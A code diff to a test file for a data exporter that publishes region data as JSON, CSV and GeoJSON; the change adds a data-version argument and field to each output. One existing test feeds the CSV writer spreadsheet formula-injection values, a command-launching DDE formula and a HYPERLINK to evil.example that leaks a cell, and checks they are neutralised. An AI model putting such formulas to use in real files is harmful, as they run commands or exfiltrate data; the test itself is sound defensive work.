@@ -24,11 +24,14 @@ const tricky = region({
   ],
 });
 
+/** A data version, as every published file names its own. */
+const V = '2026-12-06';
+
 const validate = new Ajv2020({ strict: true }).compile(REGIONS_JSON_SCHEMA);
 
 describe('published data', () => {
   it('keeps the fields its readers know, in their place and meaning, and adds the new ones after', () => {
-    const json = toPublishedJson([region({ id: 'bare' }), tricky]);
+    const json = toPublishedJson([region({ id: 'bare' }), tricky], V);
     const [bare, full] = json.regions;
     expect(Object.keys(bare!).slice(0, 10)).toEqual([
       'id',
@@ -62,7 +65,7 @@ describe('published data', () => {
   });
 
   it('writes one CSV row per event with quoting, the new columns after the old', () => {
-    const csv = toCsv([tricky]);
+    const csv = toCsv([tricky], V);
     // Excel reads the Chinese columns as UTF-8 only with the byte-order mark.
     expect(csv.startsWith('\uFEFFid,')).toBe(true);
     const lines = csv.slice(1).split('\r\n');
@@ -73,10 +76,10 @@ describe('published data', () => {
     expect(lines[1]).toBe(
       'tricky,eu-central-1,"Germany, ""Frankfurt""",Frankfurt,DE,50.11,8.68,city,3,opened,2016-11,' +
         '"first, in Europe","A report (Example News, 2020-01-01) https://example.org/news",on,,public,,,' +
-        '欧洲首个，“法兰克福”',
+        '欧洲首个，“法兰克福”,2026-12-06',
     );
     // The quote's newline stays inside one quoted cell, so a CSV reader sees two data rows.
-    expect(toCsv([tricky]).match(/^tricky,/gm)).toHaveLength(2);
+    expect(toCsv([tricky], V).match(/^tricky,/gm)).toHaveLength(2);
     expect(lines.at(-1)).toBe('');
   });
 
@@ -96,13 +99,13 @@ describe('published data', () => {
         },
       ],
     };
-    const row = toCsv([hostile]).split('\r\n')[1]!;
+    const row = toCsv([hostile], V).split('\r\n')[1]!;
     expect(row).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0","'+Frankfurt",DE,50.11,-8.68,`);
     expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click for sources"")",`);
-    // The Chinese note, the last column, is quoted the same way.
-    expect(row.endsWith(`,"'-1+1"`)).toBe(true);
+    // The Chinese note, before the version, is quoted the same way.
+    expect(row.endsWith(`,"'-1+1",${V}`)).toBe(true);
     for (const start of ['-', '\t', '\r']) {
-      const cell = toCsv([{ ...tricky, city: `${start}x` }])
+      const cell = toCsv([{ ...tricky, city: `${start}x` }], V)
         .split('\r\n')
         .slice(1)
         .join('\r\n');
@@ -111,7 +114,10 @@ describe('published data', () => {
   });
 
   it('writes RFC 7946 GeoJSON: one Point per region, longitude first', () => {
-    const geojson = toGeoJson(REGIONS);
+    const geojson = toGeoJson(REGIONS, V);
+    // Every published file says which version of the data it is.
+    expect(geojson.version).toBe(V);
+    expect(toPublishedJson(REGIONS, V).version).toBe(V);
     expect(geojson.type).toBe('FeatureCollection');
     expect(geojson.features).toHaveLength(REGIONS.length);
     const paris = geojson.features.find((feature) => feature.id === 'paris')!;
@@ -122,7 +128,7 @@ describe('published data', () => {
 
 describe('the JSON Schema', () => {
   it('accepts the published dataset', () => {
-    const valid = validate(JSON.parse(JSON.stringify(toPublishedJson(REGIONS))));
+    const valid = validate(JSON.parse(JSON.stringify(toPublishedJson(REGIONS, V))));
     expect(validate.errors ?? []).toEqual([]);
     expect(valid).toBe(true);
   });
@@ -134,7 +140,7 @@ describe('the JSON Schema', () => {
     ['an unknown field', (r: Record<string, unknown>) => (r.colour = 'blue')],
     ['a latitude out of range', (r: Record<string, unknown>) => (r.lat = 91)],
   ])('rejects %s', (_, breakIt) => {
-    const json = JSON.parse(JSON.stringify(toPublishedJson(REGIONS)));
+    const json = JSON.parse(JSON.stringify(toPublishedJson(REGIONS, V)));
     breakIt(json.regions[0]);
     expect(validate(json)).toBe(false);
   });
